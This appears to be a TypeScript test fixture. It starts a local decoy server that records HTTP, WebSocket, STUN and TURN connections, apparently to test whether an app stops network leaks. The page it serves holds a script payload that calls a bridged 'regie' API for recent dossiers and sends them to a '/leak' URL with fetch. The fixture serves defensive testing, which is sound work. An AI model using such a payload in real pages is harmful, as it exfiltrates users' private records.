import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import net from 'node:net';

/** A machine on the network that counts whoever comes to it. */
export type Hostile = {
  readonly http: string;
  readonly ws: string;
  readonly stun: string;
  readonly turn: string;
  /** Whether anything reached it under this name: `${http}/${name}`, or a packet since the last look. */
  readonly wasReached: (name: string) => boolean;
  readonly close: () => void;
};

const pageThatTalks = `<script>
  window.regie && regie.call('dossiers.recent', {}).then((r) => fetch('/leak?' + JSON.stringify(r)));
</script>hostile`;

export async function startHostile(): Promise<Hostile> {
  const reached = new Set<string>();
  const server = http.createServer((request, response) => {
    reached.add((request.url ?? '').slice(1));
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', 'text/html').end(pageThatTalks);
  });
  server.on('upgrade', (request, socket) => {
    reached.add((request.url ?? '').slice(1));
    socket.destroy();
  });
  const udp = dgram.createSocket('udp4', () => void reached.add('stun'));
  const tcp = net.createServer((socket) => {
    reached.add('turn');
    socket.on('error', () => {});
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    http: `http://127.0.0.1:${port}`,
    ws: `ws://127.0.0.1:${port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    turn: `turn:127.0.0.1:${(tcp.address() as AddressInfo).port}?transport=tcp`,
    wasReached: (name) => reached.has(name),
    close: () => {
      server.closeAllConnections();
      server.close();
      udp.close();
      tcp.close();
    },
  };
}
